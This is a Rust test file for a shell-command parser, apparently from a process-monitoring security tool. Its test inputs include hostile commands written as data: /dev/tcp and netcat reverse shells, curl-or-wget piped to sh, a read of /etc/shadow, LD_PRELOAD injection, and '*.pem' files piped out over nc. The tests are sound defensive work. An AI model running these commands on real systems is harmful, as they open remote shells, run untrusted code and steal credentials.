use super::*;

fn args(words: &[&str]) -> Vec<String> {
    words.iter().map(|w| w.to_string()).collect()
}

/// [`parse_exec`] with every word copied, so the result outlives the argv (the tests build
/// argv in temporaries).
fn parsed(argv: &[String]) -> CommandLine<'static> {
    fn own(words: Words) -> Words<'static> {
        words
            .into_iter()
            .map(|w| Arg::Owned(w.into_owned()))
            .collect()
    }
    let line = parse_exec(argv);
    let commands = line.commands.into_iter().map(|c| SimpleCommand {
        argv: own(c.argv),
        wrappers: c
            .wrappers
            .into_iter()
            .map(|w| Wrapper { argv: own(w.argv) })
            .collect(),
        assignments: c.assignments,
        redirects: c.redirects,
        joiner: c.joiner,
        depth: c.depth,
        in_substitution: c.in_substitution,
        class: c.class,
        program_at: c.program_at,
        origin: c.origin,
        holds_commands: c.holds_commands,
    });
    CommandLine {
        commands: commands.collect(),
        origins: line.origins,
        truncated: line.truncated,
    }
}

/// `sh -c SCRIPT`, parsed.
fn sh(script: &str) -> CommandLine<'static> {
    parsed(&args(&["sh", "-c", script]))
}

fn programs<'a>(line: &'a CommandLine) -> Vec<&'a str> {
    line.commands.iter().map(|c| c.program()).collect()
}

/// The first command running `program`.
fn find<'a, 'w>(line: &'a CommandLine<'w>, program: &str) -> &'a SimpleCommand<'w> {
    line.commands
        .iter()
        .find(|c| c.program() == program)
        .unwrap_or_else(|| panic!("no {program} in {:?}", programs(line)))
}

#[test]
fn plain_exec_is_the_only_command() {
    let line = parsed(&args(&[
        "/usr/bin/nc",
        "-e",
        "/bin/sh",
        "example.com",
        "22",
    ]));
    assert_eq!(line.commands.len(), 1);
    let nc = &line.commands[0];
    assert_eq!(nc.program(), "nc");
    assert_eq!(
        nc.argv[..],
        args(&["/usr/bin/nc", "-e", "/bin/sh", "example.com", "22"])
    );
    assert_eq!(
        (nc.depth, nc.joiner, nc.in_substitution),
        (0, Joiner::Sequence, false)
    );
    assert!(!line.truncated);
}

#[test]
fn empty_argv_still_has_the_exec() {
    let line = parsed(&[]);
    assert_eq!(line.commands.len(), 1);
    assert_eq!(line.commands[0].program(), "");
}

#[test]
fn curl_piped_to_sh() {
    let line = sh("curl -s http://x/a.sh | sh");
    assert_eq!(programs(&line), ["sh", "curl", "sh"]);
    let curl = &line.commands[1];
    assert_eq!(curl.argv[..], args(&["curl", "-s", "http://x/a.sh"]));
    assert_eq!((curl.depth, curl.joiner), (1, Joiner::Sequence));
    assert_eq!(
        (line.commands[2].depth, line.commands[2].joiner),
        (1, Joiner::Pipe)
    );
    assert_eq!(line.pipe_source(2).map(|c| c.program()), Some("curl"));
}

#[test]
fn wget_piped_to_bash_via_bash_lc() {
    let line = parsed(&args(&["/bin/bash", "-lc", "wget -qO- x | bash"]));
    assert_eq!(programs(&line), ["bash", "wget", "bash"]);
    assert_eq!(line.commands[2].joiner, Joiner::Pipe);
}

#[test]
fn combined_and_separate_shell_flags() {
    for argv in [
        args(&["sh", "-ec", "id"]),
        args(&["sh", "-xc", "id"]),
        args(&["bash", "--login", "-c", "id"]),
        args(&["bash", "-i", "-c", "id"]),
        args(&["bash", "-o", "pipefail", "-c", "id"]),
        args(&["-bash", "-c", "id"]),
        args(&["busybox", "sh", "-c", "id"]),
    ] {
        let line = parsed(&argv);
        assert_eq!(programs(&line).last(), Some(&"id"), "{argv:?}");
        assert_eq!(line.commands.last().map(|c| c.depth), Some(1), "{argv:?}");
    }
}

#[test]
fn shell_running_a_file_is_not_parsed() {
    let line = parsed(&args(&["bash", "-x", "script.sh", "-c", "id"]));
    assert_eq!(programs(&line), ["bash"]);
}

#[test]
fn sequence_and_or_background_joiners() {
    let line = sh("a; b && c || d & e\nf");
    assert_eq!(programs(&line), ["sh", "a", "b", "c", "d", "e", "f"]);
    let joiners: Vec<Joiner> = line.commands[1..].iter().map(|c| c.joiner).collect();
    use Joiner::*;
    assert_eq!(joiners, [Sequence, Sequence, And, Or, Sequence, Sequence]);
}

#[test]
fn dollar_paren_substitution() {
    let line = sh("echo $(whoami) done");
    assert_eq!(programs(&line), ["sh", "whoami", "echo"]);
    assert!(line.commands[1].in_substitution);
    let echo = &line.commands[2];
    assert!(!echo.in_substitution);
    assert_eq!(echo.argv[..], args(&["echo", "$(whoami)", "done"]));
}

#[test]
fn substitution_inside_double_quotes() {
    let line = sh(r#"eval "$(curl -fsSL http://x/i)""#);
    let curl = find(&line, "curl");
    assert!(curl.in_substitution);
    assert_eq!(curl.argv[..], args(&["curl", "-fsSL", "http://x/i"]));
}

#[test]
fn backticks() {
    let line = sh("echo `uname -a` `id`");
    assert_eq!(programs(&line), ["sh", "uname", "id", "echo"]);
    assert!(line.commands[1].in_substitution && line.commands[2].in_substitution);
    assert_eq!(
        line.commands[3].argv[..],
        args(&["echo", "`uname -a`", "`id`"])
    );
}

#[test]
fn nested_backticks_by_escaping() {
    let line = sh(r"echo `echo \`id\``");
    assert_eq!(programs(&line), ["sh", "id", "echo", "echo"]);
    assert!(line.commands[1..]
        .iter()
        .all(|c| c.in_substitution || c.argv.len() == 2));
}

#[test]
fn process_substitution_feeding_bash() {
    let line = sh("bash <(curl -s http://x/a)");
    let curl = find(&line, "curl");
    assert!(curl.in_substitution);
    assert_eq!(
        find(&line, "bash").argv[..],
        args(&["bash", "<(curl -s http://x/a)"])
    );
}

#[test]
fn substitution_in_parameter_default() {
    let line = sh("echo ${X:-$(id)}");
    assert!(find(&line, "id").in_substitution);
}

#[test]
fn arithmetic_is_not_a_command() {
    let line = sh("echo $((1+2)); ((i++)); id");
    assert_eq!(programs(&line), ["sh", "echo", "id"]);
    assert_eq!(line.commands[1].argv[..], args(&["echo", "$((1+2))"]));
}

#[test]
fn bash_i_dup_to_dev_tcp() {
    let line = parsed(&args(&[
        "bash",
        "-c",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    ]));
    let inner = &line.commands[1];
    assert_eq!(inner.argv[..], args(&["bash", "-i"]));
    assert_eq!(
        inner.redirects,
        vec![
            Redirect {
                fd: None,
                op: RedirectOp::Dup,
                target: "/dev/tcp/10.0.0.1/4444".into()
            },
            Redirect {
                fd: Some(0),
                op: RedirectOp::Dup,
                target: "1".into()
            },
        ]
    );
}

#[test]
fn read_write_redirect_with_fd() {
    let line = sh("sh -i 5<> /dev/tcp/1.2.3.4/80");
    let inner = &line.commands[1];
    assert_eq!(inner.argv[..], args(&["sh", "-i"]));
    assert_eq!(
        inner.redirects,
        vec![Redirect {
            fd: Some(5),
            op: RedirectOp::ReadWrite,
            target: "/dev/tcp/1.2.3.4/80".into()
        }]
    );
}

#[test]
fn every_redirect_operator() {
    let line = sh("c <in >out >>app 2>&1 &>both &>>both2 0<&196 >|clob 3<>rw");
    let ops: Vec<(Option<u32>, RedirectOp, &str)> = line.commands[1]
        .redirects
        .iter()
        .map(|r| (r.fd, r.op, r.target.as_str()))
        .collect();
    use RedirectOp::*;
    assert_eq!(
        ops,
        [
            (None, In, "in"),
            (None, Out, "out"),
            (None, Append, "app"),
            (Some(2), Dup, "1"),
            (None, Out, "both"),
            (None, Append, "both2"),
            (Some(0), Dup, "196"),
            (None, Out, "clob"),
            (Some(3), ReadWrite, "rw"),
        ]
    );
    assert_eq!(line.commands[1].argv[..], args(&["c"]));
}

#[test]
fn exec_builtin_with_only_redirects_stays_exec() {
    let line = sh("exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | while read l; do $l 2>&5 >&5; done");
    let exec = &line.commands[1];
    assert_eq!(exec.argv[..], args(&["exec"]));
    assert_eq!(exec.redirects[0].target, "/dev/tcp/10.0.0.1/80");
    assert_eq!(exec.redirects[0].op, RedirectOp::ReadWrite);
    assert_eq!(programs(&line), ["sh", "exec", "cat", "read", "$l"]);
    assert_eq!(line.commands[3].joiner, Joiner::Pipe);
}

#[test]
fn exec_wrapper_is_unwrapped() {
    let line = sh("exec -a x nc -l 1");
    assert_eq!(line.commands[1].argv[..], args(&["nc", "-l", "1"]));
    assert_eq!(line.commands[1].wrappers, ["exec"]);
}

#[test]
fn single_quotes_keep_operators() {
    let line = sh("echo 'a | b'");
    assert_eq!(line.commands.len(), 2);
    assert_eq!(line.commands[1].argv[..], args(&["echo", "a | b"]));
}

#[test]
fn double_quotes_inside_sh_c() {
    let line = parsed(&args(&["sh", "-c", "echo 'a | b'"]));
    assert_eq!(line.commands[1].argv[..], args(&["echo", "a | b"]));
}

#[test]
fn separator_inside_double_quotes_does_not_split() {
    let line = sh(r#"echo "a;b" "c && d" x\;y"#);
    assert_eq!(line.commands.len(), 2);
    assert_eq!(
        line.commands[1].argv[..],
        args(&["echo", "a;b", "c && d", "x;y"])
    );
}

#[test]
fn double_quote_escapes() {
    let line = sh(r#"echo "a\"b\$c\\d\e""#);
    assert_eq!(line.commands[1].argv[..], args(&["echo", r#"a"b$c\d\e"#]));
}

#[test]
fn ansi_c_quoting_decodes() {
    let line = sh(r"$'\x63url' $'\143url' $'a\tb\u00e9'");
    assert_eq!(line.commands[1].argv[..], args(&["curl", "curl", "a\tbé"]));
}

#[test]
fn comments_are_skipped() {
    let line = sh("id # ; rm -rf /\nuname a#b");
    assert_eq!(programs(&line), ["sh", "id", "uname"]);
    assert_eq!(line.commands[2].argv[..], args(&["uname", "a#b"]));
}

#[test]
fn keyword_in_quotes_is_a_word() {
    let line = sh("'if' x; \"done\"");
    assert_eq!(programs(&line), ["sh", "if", "done"]);
}

#[test]
fn nested_shell_strings() {
    let line = parsed(&args(&["sh", "-c", "bash -c 'nc -e /bin/sh h 1'"]));
    assert_eq!(programs(&line), ["sh", "bash", "nc"]);
    let depths: Vec<u8> = line.commands.iter().map(|c| c.depth).collect();
    assert_eq!(depths, [0, 1, 2]);
    assert_eq!(
        line.commands[2].argv[..],
        args(&["nc", "-e", "/bin/sh", "h", "1"])
    );
}

#[test]
fn nesting_depth_is_bounded() {
    // Each `eval` parses the rest one level deeper (quoting each level would grow the
    // input exponentially).
    let line = sh(&format!("{}id", "eval ".repeat(20)));
    assert!(line.truncated);
    assert!(line.commands.iter().all(|c| c.depth <= MAX_DEPTH));
    assert_eq!(line.commands.iter().map(|c| c.depth).max(), Some(MAX_DEPTH));
}

/// Single-quote `s` for a shell.
fn quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

#[test]
fn env_assignments_and_options() {
    let line = parsed(&args(&["env", "LD_PRELOAD=/tmp/x.so", "ls"]));
    let ls = &line.commands[0];
    assert_eq!(ls.argv[..], args(&["ls"]));
    assert_eq!(
        ls.assignments,
        [("LD_PRELOAD".to_string(), "/tmp/x.so".to_string())]
    );
    assert_eq!(ls.wrappers, ["env"]);

    let line = parsed(&args(&[
        "/usr/bin/env",
        "-i",
        "-u",
        "HOME",
        "A=1",
        "B=2",
        "sh",
        "-c",
        "id",
    ]));
    assert_eq!(line.commands[0].program(), "sh");
    assert_eq!(line.commands[0].assignments.len(), 2);
    assert_eq!(programs(&line), ["sh", "id"]);
}

#[test]
fn env_alone_is_the_program() {
    let line = parsed(&args(&["env", "A=1"]));
    assert_eq!(line.commands[0].argv[..], args(&["env", "A=1"]));
    assert!(line.commands[0].wrappers.is_empty());
}

#[test]
fn env_split_string() {
    let line = parsed(&args(&["env", "-S", "nc -lp 4444"]));
    assert_eq!(line.commands[0].argv[..], args(&["nc", "-lp", "4444"]));
}

#[test]
fn shell_assignments_before_command() {
    let line = sh("LD_PRELOAD=/dev/shm/x.so A=\"b c\" ls; X=1");
    let ls = &line.commands[1];
    assert_eq!(ls.argv[..], args(&["ls"]));
    assert_eq!(
        ls.assignments,
        [
            ("LD_PRELOAD".to_string(), "/dev/shm/x.so".to_string()),
            ("A".into(), "b c".into())
        ]
    );
    // A bare assignment runs nothing.
    assert_eq!(line.commands.len(), 2);
}

#[test]
fn quoted_name_is_not_an_assignment() {
    let line = sh("'A=1' x");
    assert_eq!(line.commands[1].argv[..], args(&["A=1", "x"]));
}

#[test]
fn busybox_applet() {
    let line = parsed(&args(&["busybox", "nc", "10.0.0.1", "4444", "-e", "sh"]));
    assert_eq!(
        line.commands[0].argv[..],
        args(&["nc", "10.0.0.1", "4444", "-e", "sh"])
    );
    assert_eq!(line.commands[0].wrappers, ["busybox"]);
}

#[test]
fn chained_wrappers_outermost_first() {
    let line = parsed(&args(&[
        "timeout", "10", "nohup", "nice", "-n", "5", "nc", "-e", "/bin/sh", "h", "1",
    ]));
    let nc = &line.commands[0];
    assert_eq!(nc.argv[..], args(&["nc", "-e", "/bin/sh", "h", "1"]));
    assert_eq!(nc.wrappers, ["timeout", "nohup", "nice"]);
}

#[test]
fn wrapper_options_with_arguments() {
    let cases: &[(&[&str], &[&str])] = &[
        (
            &["timeout", "-s", "KILL", "-k", "5", "10s", "id"],
            &["timeout"],
        ),
        (
            &["ionice", "-c", "3", "setsid", "-f", "id"],
            &["ionice", "setsid"],
        ),
        (&["stdbuf", "-oL", "-e", "0", "id"], &["stdbuf"]),
        (&["sudo", "-u", "root", "-E", "PATH=/x", "id"], &["sudo"]),
        (&["doas", "-u", "root", "id"], &["doas"]),
        (&["chroot", "/host", "id"], &["chroot"]),
        (
            &["nsenter", "-t", "1", "-m", "-u", "-n/proc/1/ns/net", "id"],
            &["nsenter"],
        ),
        (&["unshare", "-r", "--map-user", "0", "id"], &["unshare"]),
        (&["xargs", "-0", "-n", "1", "-I{}", "id"], &["xargs"]),
        (&["watch", "-x", "-n", "1", "id"], &["watch"]),
        (&["time", "-p", "id"], &["time"]),
        (&["strace", "-f", "-o", "/tmp/t", "id"], &["strace"]),
        (&["flock", "-w", "3", "/tmp/l", "id"], &["flock"]),
        (&["command", "-p", "id"], &["command"]),
        (&["builtin", "id"], &["builtin"]),
    ];
    for (argv, wrappers) in cases {
        let line = parsed(&args(argv));
        assert_eq!(line.commands[0].argv[..], args(&["id"]), "{argv:?}");
        assert_eq!(line.commands[0].wrappers, args(wrappers), "{argv:?}");
    }
}

#[test]
fn wrappers_without_a_command_are_programs() {
    for argv in [
        &["nsenter", "-t", "1", "-m"][..],
        &["ionice", "-p", "1", "2"],
        &["command", "-v", "nc"],
        &["sudo", "-l"],
        &["timeout", "10"],
        &["busybox", "--list"],
    ] {
        let line = parsed(&args(argv));
        assert!(line.commands[0].wrappers.is_empty(), "{argv:?}");
        assert_eq!(line.commands[0].argv[..], args(argv));
    }
}

#[test]
fn sudo_sh_c_string() {
    let line = parsed(&args(&["sudo", "sh", "-c", "cat /etc/shadow > /tmp/s"]));
    assert_eq!(line.commands[0].wrappers, ["sudo"]);
    let cat = find(&line, "cat");
    assert_eq!(cat.redirects[0].target, "/tmp/s");
    assert_eq!(cat.depth, 1);
}

#[test]
fn su_c_and_script_c_strings() {
    let line = parsed(&args(&["su", "-", "root", "-c", "id; nc -l 1"]));
    assert_eq!(programs(&line), ["su", "id", "nc"]);
    let line = parsed(&args(&["script", "-qc", "/bin/bash -i", "/dev/null"]));
    assert_eq!(programs(&line), ["script", "bash"]);
    let line = parsed(&args(&["flock", "/tmp/l", "-c", "curl x | sh"]));
    assert_eq!(programs(&line), ["flock", "curl", "sh"]);
}

#[test]
fn eval_parses_its_arguments() {
    let line = sh("eval 'curl x' '|' sh");
    assert_eq!(programs(&line), ["sh", "eval", "curl", "sh"]);
    assert_eq!(line.commands[3].joiner, Joiner::Pipe);
    assert_eq!(line.commands[3].depth, 2);
}

#[test]
fn watch_runs_a_shell_string() {
    let line = parsed(&args(&["watch", "-n", "5", "curl -s x | sh"]));
    assert_eq!(programs(&line), ["watch", "curl", "sh"]);
}

#[test]
fn capsh_runs_bash() {
    let line = parsed(&args(&["capsh", "--drop=cap_sys_admin", "--", "-c", "id"]));
    assert_eq!(programs(&line), ["bash", "id"]);
    assert_eq!(line.commands[0].wrappers, ["capsh"]);
}

#[test]
fn xargs_into_sh_c() {
    let line = sh("find / -name '*.pem' | xargs -I{} sh -c 'cat {} | nc h 1'");
    assert_eq!(programs(&line), ["sh", "find", "sh", "cat", "nc"]);
    assert_eq!(line.commands[2].wrappers, ["xargs"]);
}

#[test]
fn wrappers_are_bounded() {
    let mut argv = vec!["nohup"; 100];
    argv.push("id");
    let line = parsed(&args(&argv));
    assert!(line.truncated);
    assert_eq!(line.commands[0].wrappers.len(), MAX_WRAPPERS);
}

#[test]
fn for_loop_body_is_visible() {
    let line = sh("for i in 1 2; do curl x | sh; done");
    assert_eq!(programs(&line), ["sh", "curl", "sh"]);
    assert_eq!(line.commands[2].joiner, Joiner::Pipe);
}

#[test]
fn if_while_case_bodies_are_visible() {
    let line = sh("if [ -x /bin/nc ]; then nc -e sh h 1; elif true; then id; else wget x; fi");
    assert_eq!(programs(&line), ["sh", "[", "nc", "true", "id", "wget"]);
    let line = sh("while true; do sleep 1; done; until false; do id; done");
    assert_eq!(programs(&line), ["sh", "true", "sleep", "false", "id"]);
    let line = sh("case $1 in a|b) curl x;; (c) wget y ;; *) id;; esac; uname");
    assert_eq!(programs(&line), ["sh", "curl", "wget", "id", "uname"]);
}

#[test]
fn case_inside_substitution_keeps_parens() {
    let line = sh("echo $(case x in x) id;; esac) after");
    assert_eq!(programs(&line), ["sh", "id", "echo"]);
    assert_eq!(
        line.commands[2].argv.last().map(|a| a.as_ref()),
        Some("after")
    );
}

#[test]
fn subshells_groups_and_functions() {
    let line = sh("(cd /tmp && ./x) ; { id; uname; } | nc h 1; f() { curl x; }; f");
    assert_eq!(
        programs(&line),
        ["sh", "cd", "x", "id", "uname", "nc", "curl", "f"]
    );
    let line = sh("function g { id; }");
    assert_eq!(programs(&line), ["sh", "id"]);
}

#[test]
fn joiner_survives_if_and_braces() {
    let line = sh("a && if b; then c; fi; d | { e; }");
    let joiners: Vec<(&str, Joiner)> = line.commands[1..]
        .iter()
        .map(|c| (c.program(), c.joiner))
        .collect();
    use Joiner::*;
    assert_eq!(
        joiners,
        [
            ("a", Sequence),
            ("b", And),
            ("c", Sequence),
            ("d", Sequence),
            ("e", Pipe)
        ]
    );
}

#[test]
fn heredoc_body_is_the_target() {
    let line = sh("cat <<EOF > /tmp/x\nline1 | not a command\nEOF\nid");
    assert_eq!(programs(&line), ["sh", "cat", "id"]);
    let cat = &line.commands[1];
    assert_eq!(cat.redirects[0].op, RedirectOp::HereDoc);
    assert_eq!(cat.redirects[0].target, "line1 | not a command\n");
    assert_eq!(cat.redirects[1].target, "/tmp/x");
}

#[test]
fn heredoc_strip_tabs_and_two_on_a_line() {
    let line = sh("cat <<-A <<'B'\n\tone\n\tA\ntwo\nB\nid");
    let cat = &line.commands[1];
    assert_eq!(cat.redirects[0].target, "one\n");
    assert_eq!(cat.redirects[1].target, "two\n");
    assert_eq!(programs(&line), ["sh", "cat", "id"]);
}

#[test]
fn heredoc_to_a_shell_is_parsed() {
    let line = sh("bash <<EOF\ncurl -s x | sh\nEOF");
    assert_eq!(programs(&line), ["sh", "bash", "curl", "sh"]);
    assert_eq!(line.commands[2].depth, 2);
}

#[test]
fn unterminated_heredoc_takes_the_rest() {
    let line = sh("cat <<EOF\nid\nuname");
    assert_eq!(programs(&line), ["sh", "cat"]);
    assert_eq!(line.commands[1].redirects[0].target, "id\nuname");
}

#[test]
fn herestring_to_a_shell_is_parsed() {
    let line = sh("bash <<< 'nc -e /bin/sh h 1'");
    let bash = &line.commands[1];
    assert_eq!(bash.redirects[0].op, RedirectOp::HereDoc);
    assert_eq!(bash.redirects[0].target, "nc -e /bin/sh h 1");
    assert_eq!(programs(&line), ["sh", "bash", "nc"]);
}

#[test]
fn pipe_source_skips_substitutions_and_nested_strings() {
    let line = sh("curl x | sh $(id)");
    assert_eq!(programs(&line), ["sh", "curl", "id", "sh"]);
    assert_eq!(line.pipe_source(3).map(|c| c.program()), Some("curl"));
    assert!(line.pipe_source(1).is_none());
    let line = parsed(&args(&["sh", "-c", "sh -c 'a' | b"]));
    assert_eq!(programs(&line), ["sh", "sh", "a", "b"]);
    assert_eq!(line.pipe_source(3).map(|c| c.program()), Some("sh"));
}

// Pathological input: each must stay bounded and mark truncation where a limit cut.

#[test]
fn one_mib_single_argument() {
    let big = "a".repeat(1 << 20);
    let line = parsed(&args(&["echo", &big]));
    assert!(line.truncated);
    let total: usize = line.commands[0].argv.iter().map(|a| a.len()).sum();
    assert!(total <= MAX_ARGV_BYTES);

    let line = sh(&big);
    assert!(line.truncated);
    assert!(line
        .commands
        .iter()
        .flat_map(|c| &c.argv)
        .all(|a| a.len() <= MAX_ARGV_BYTES));
}

#[test]
fn multibyte_argument_cut_on_a_char_boundary() {
    let big = "é".repeat(MAX_ARGV_BYTES);
    let line = parsed(&args(&["sh", "-c", &big]));
    assert!(line.truncated);
    assert!(line.commands[0].argv[2].chars().all(|c| c == 'é'));
}

#[test]
fn ten_thousand_stage_pipeline() {
    let script = vec!["cat"; 10_000].join(" | ");
    let line = sh(&script);
    assert!(line.truncated);
    assert_eq!(line.commands.len(), MAX_COMMANDS);
}

#[test]
fn nested_text_is_not_copied_without_bound() {
    // Each unclosed `$(` holds the rest of the script, and eval parses it again: 16 KiB of
    // argv made ~0.9 MB of words before the budget.
    let unit = format!("eval $(echo {} ", "x".repeat(400));
    let line = sh(&unit.repeat(40));
    assert!(line.truncated);
    let bytes = line.text_bytes();
    assert!(bytes <= MAX_TOTAL_WORD_BYTES, "{bytes}");
    assert!(
        bytes > MAX_TOTAL_WORD_BYTES / 2,
        "{bytes}: the budget, not another bound, cut it"
    );
    // The exec's own argv and a `sh -c` string, both at the argv limit, fit whole.
    let words = vec!["echo"; (MAX_ARGV_BYTES - 64) / 5].join(" ");
    let line = sh(&words);
    assert!(!line.truncated);
    assert_eq!(line.commands.len(), 2);
}

#[test]
fn thousand_nested_substitutions() {
    let script = format!("{}id{}", "$(".repeat(1000), ")".repeat(1000));
    let line = sh(&script);
    assert!(line.truncated);
    assert!(line.commands.len() <= MAX_COMMANDS);
    let script = format!("echo {}{} ; uname", "$(".repeat(1000), ")".repeat(1000));
    let line = sh(&script);
    assert!(line.truncated);
    // The skipped nesting ends where its parens balance; what follows is still read.
    assert_eq!(programs(&line).last(), Some(&"uname"));
}

#[test]
fn deeply_nested_backticks_and_parameters() {
    let script = format!("echo {}x{}", "${a:-".repeat(2000), "}".repeat(2000));
    let line = sh(&script);
    assert!(line.truncated);
    let script = format!("{}id{}", "\"$(".repeat(3000), ")\"".repeat(3000));
    let line = sh(&script);
    assert!(line.truncated);
    let script = format!("{}id{}", "( ".repeat(5000), ")".repeat(5001));
    let line = sh(&script);
    assert_eq!(programs(&line), ["sh", "id"]);
}

#[test]
fn unbalanced_quotes_read_to_the_end() {
    let line = sh("echo 'abc | id");
    assert_eq!(line.commands[1].argv[..], args(&["echo", "abc | id"]));
    let line = sh("echo \"abc $(id");
    assert_eq!(programs(&line), ["sh", "id", "echo"]);
    let line = sh("echo `id");
    assert_eq!(programs(&line), ["sh", "id", "echo"]);
}

#[test]
fn lone_backslash_and_stray_operators() {
    let line = sh("\\");
    assert_eq!(line.commands[1].argv[..], args(&["\\"]));
    let line = sh(") ) ;; | && esac fi done } >");
    assert!(!line.commands.is_empty());
    let line = sh("echo \\\nx");
    assert_eq!(line.commands[1].argv[..], args(&["echo", "x"]));
}

#[test]
fn invalid_and_control_characters() {
    let line = parsed(&args(&[
        "sh",
        "-c",
        "echo \u{0}\u{1b}[31m \u{fffd} \u{10ffff}; id",
    ]));
    assert_eq!(programs(&line), ["sh", "echo", "id"]);
    let line = sh(r"printf $'\xff\xfe\x00\u{d800}'");
    assert_eq!(line.commands.len(), 2);
}

#[test]
fn script_budget_over_many_nested_strings() {
    // Every level re-reads its string: the total bytes parsed are bounded.
    let inner = format!("id {}", "x".repeat(40_000));
    let script = vec![format!("sh -c {}", quote(&inner)); 20].join("; ");
    let line = sh(&script);
    assert!(line.truncated);
}

mod properties {
    use super::*;
    use proptest::prelude::*;

    /// Pieces of shell syntax that tend to break parsers.
    #[rustfmt::skip]
    const PIECES: &[&str] = &[
        "$(", ")", "`", "'", "\"", "\\", "${", "}", " | ", ";", "&&", "\n", "<<EOF\n", "EOF",
        ">&", "2>", "<(", "((", "sh -c ", "eval ", "env A=1 ", "for i in a; do ", "case x in ",
        "done", "esac", "$'\\x", " ", "a", "b=c", "é",
    ];

    /// Shell-ish text: mostly syntax pieces, some arbitrary characters. (Built from indexes:
    /// a regex or many-armed strategy is slow to generate in a debug build.)
    fn shellish() -> impl Strategy<Value = String> {
        proptest::collection::vec((0..PIECES.len() + 4, any::<char>()), 0..60).prop_map(|parts| {
            let mut out = String::new();
            for (i, c) in parts {
                match PIECES.get(i) {
                    Some(piece) => out.push_str(piece),
                    None => out.push(c),
                }
            }
            out
        })
    }

    fn check(argv: &[String]) {
        let line = parsed(argv);
        let input: usize = argv.iter().map(|a| a.len() + 1).sum();
        assert!(!line.commands.is_empty());
        assert!(line.commands.len() <= MAX_COMMANDS);
        assert!(line.text_bytes() <= MAX_TOTAL_WORD_BYTES);
        for c in &line.commands {
            assert!(c.depth <= MAX_DEPTH);
            assert!(c.wrappers.len() <= MAX_WRAPPERS);
            for a in c
                .argv
                .iter()
                .map(|a| a.as_ref())
                .chain(c.redirects.iter().map(|r| r.target.as_str()))
            {
                assert!(a.len() <= input, "{} > {input}", a.len());
            }
        }
    }

    proptest! {
        #[test]
        fn sh_c_of_anything_is_bounded(script in shellish()) {
            check(&args(&["sh", "-c", &script]));
        }

        #[test]
        fn any_argv_is_bounded(argv in proptest::collection::vec(shellish(), 0..8)) {
            check(&argv);
        }

        #[test]
        fn arbitrary_unicode_is_bounded(script in "\\PC{0,200}") {
            check(&args(&["bash", "-lc", &script]));
        }
    }
}
